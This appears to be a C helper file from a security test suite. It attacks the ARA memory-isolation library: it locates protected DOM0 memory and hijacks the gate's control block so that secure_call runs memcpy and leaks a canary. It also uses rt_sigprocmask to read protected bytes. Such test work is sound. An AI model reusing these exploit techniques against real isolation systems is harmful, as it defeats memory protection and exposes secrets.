/* SPDX-License-Identifier: Apache-2.0 */
/* libara's symbols and the gate's control block, for attack programs (attack_libara.h). */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "ara/ara.h"
#include "ara/domains.h"
#include "attack.h"
#include "ara/gate.h"
#include "attack_libara.h"

const char *attack_libara_file = "";

uint64_t attack_memfd_base(const char *name)
{
	char line[512], want[64];
	FILE *f = fopen("/proc/self/maps", "r");
	uint64_t base = 0;

	snprintf(want, sizeof(want), "/memfd:%s (deleted)", name);
	while (f && fgets(line, sizeof(line), f)) {
		unsigned long long s, off;

		if (sscanf(line, "%llx-%*x %*s %llx", &s, &off) == 2 && off == 0 && strstr(line, want)) {
			base = s;
			break;
		}
	}
	if (f)
		fclose(f);
	return base;
}

uint64_t attack_file_symbol(const char *file, const char *name, uint64_t *size)
{
	static unsigned char img[4 << 20];
	FILE *f = fopen(file, "rb");
	size_t n = f ? fread(img, 1, sizeof(img), f) : 0;
	const Elf64_Ehdr *eh = (const Elf64_Ehdr *)img;

	if (f)
		fclose(f);
	if (n < sizeof(*eh) || eh->e_shoff + (uint64_t)eh->e_shnum * sizeof(Elf64_Shdr) > n)
		return 0;
	const Elf64_Shdr *sh = (const Elf64_Shdr *)(img + eh->e_shoff);
	for (unsigned int i = 0; i < eh->e_shnum; i++) {
		if (sh[i].sh_type != SHT_SYMTAB || sh[i].sh_link >= eh->e_shnum ||
		    sh[i].sh_offset + sh[i].sh_size > n)
			continue;
		const Elf64_Sym *sym = (const Elf64_Sym *)(img + sh[i].sh_offset);
		const Elf64_Shdr *str = &sh[sh[i].sh_link];

		for (size_t j = 0; j < sh[i].sh_size / sizeof(*sym); j++)
			if (sym[j].st_name < str->sh_size && str->sh_offset + str->sh_size <= n &&
			    strcmp((const char *)img + str->sh_offset + sym[j].st_name, name) == 0) {
				if (size)
					*size = sym[j].st_size;
				return sym[j].st_value;
			}
	}
	return 0;
}

uint64_t attack_libara_symbol(const char *name, uint64_t *size)
{
	uint64_t base = attack_memfd_base("ara-libara"), at = attack_file_symbol(attack_libara_file, name, size);

	if (!base || !at) {
		printf("FAIL: cannot find libara's %s in %s\n", name, attack_libara_file);
		return 0;
	}
	return base + at;
}

size_t attack_dom0_write_targets(uint64_t *at, size_t max)
{
	size_t n = 0;

	if (max == 0 || !(at[n++] = attack_libara_symbol("ara_verbose", NULL)))
		return 0;
	for (size_t i = 0; i < attack_n_dom0 && n < max; i++)
		if (attack_dom0[i].perms[1] == 'w')
			at[n++] = attack_dom0[i].start;
	return n;
}

const struct range *attack_dom0_arena(void)
{
	const struct range *best = NULL;

	for (size_t i = 0; i < attack_n_dom0; i++)
		if (attack_dom0[i].perms[0] == 'r' && attack_dom0[i].perms[1] == 'w' &&
		    (!best || attack_dom0[i].end - attack_dom0[i].start > best->end - best->start))
			best = &attack_dom0[i];
	if (!best || best->end - best->start < (UINT64_C(8) << 20)) {
		printf("FAIL: DOM0's arena was not found\n");
		return NULL;
	}
	return best;
}

uint64_t attack_staging_window(void)
{
	for (size_t i = 0; i < attack_n_dom0; i++)
		if (strncmp(attack_dom0[i].perms, "---", 3) == 0 &&
		    attack_dom0[i].end - attack_dom0[i].start == ATTACK_STAGE_SIZE)
			return attack_dom0[i].start;
	printf("FAIL: ARA's staging window was not found\n");
	return 0;
}

uint64_t attack_control_block(void)
{
	uint64_t entry = attack_memfd_base("ara-entry");

	for (size_t i = 0; entry && i < attack_n_dom0; i++)
		if (attack_dom0[i].perms[0] == 'r' && attack_dom0[i].perms[2] == '-' &&
		    attack_dom0[i].start > entry &&
		    attack_dom0[i].end - attack_dom0[i].start == 4096 &&
		    attack_dom0[i].start - entry < (1u << 24))
			return attack_dom0[i].start;
	printf("FAIL: the gate's control block was not found (the entry object at %#llx); DOM0 ranges:\n",
	       (unsigned long long)entry);
	for (size_t i = 0; i < attack_n_dom0; i++)
		printf("  %#llx-%#llx %s\n", (unsigned long long)attack_dom0[i].start,
		       (unsigned long long)attack_dom0[i].end, attack_dom0[i].perms);
	return 0;
}

void attack_exploit_control_block(uint64_t control_block)
{
	static _Alignas(16) unsigned char fake_stack[64 * 1024];
	struct ara_call_header *h =
		(struct ara_call_header *)(void *)(fake_stack + sizeof(fake_stack) - ARA_CALL_HEADER_SIZE);
	const uint64_t memcpy_at = attack_libara_symbol("memcpy", NULL);
	const uint64_t canary = attack_libara_symbol("dom0_canary", NULL);
	struct ara_gate_cb *cb = (struct ara_gate_cb *)(uintptr_t)control_block;
	int (*gate3)(uint64_t, uint64_t, uint64_t) =
		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;

	if (!memcpy_at || !canary)
		return;
	cb->headers = (uint64_t)(uintptr_t)h; /* the block's one stack: App memory */
	cb->headers_end = cb->headers + 1;
	cb->nofunc = memcpy_at;
	/* secure_call of a fid no service has now runs memcpy(&h->arg, canary, len) with DOM0's row. */
	gate3(ARA_FID(0x7777, 1), canary, 32); /* within the header, from arg on */
	attack_show_leak((const unsigned char *)&h->arg, 32, canary);
}

uint64_t attack_protected_count_word(void)
{
	uint64_t size = 0;
	const uint64_t list = attack_libara_symbol("ara_protected", &size);

	if (!list)
		return 0;
	if (size < 8) {
		printf("FAIL: libara's ara_protected holds %llu bytes\n", (unsigned long long)size);
		return 0;
	}
	return list + size - 8; /* the count, last; little-endian */
}

int attack_copy_canary_in(const char *how)
{
	const uint64_t canary = attack_libara_symbol("dom0_canary", NULL);
	unsigned char stolen[48];
	uint64_t zero = 0, got;

	if (!canary)
		return 1;
	for (size_t i = 0; i < sizeof(stolen); i++) {
		long rc = syscall(SYS_rt_sigprocmask, SIG_SETMASK, (void *)(uintptr_t)(canary + i), NULL, 8);

		if (rc != 0) {
			if (i == 0 && errno == EFAULT) {
				printf("ara-evidence: %s: ARA still refuses to copy from DOM0 (EFAULT)\n", how);
				return 0;
			}
			printf("FAIL: rt_sigprocmask from DOM0 failed with errno %d after %zu bytes\n", errno, i);
			return 1;
		}
		syscall(SYS_rt_sigprocmask, SIG_SETMASK, &zero, &got, 8);
		stolen[i] = (unsigned char)got;
	}
	printf("BREACH: %s zeroed ARA's protected-range count\n", how);
	attack_show_leak(stolen, sizeof(stolen), canary);
	return 1;
}
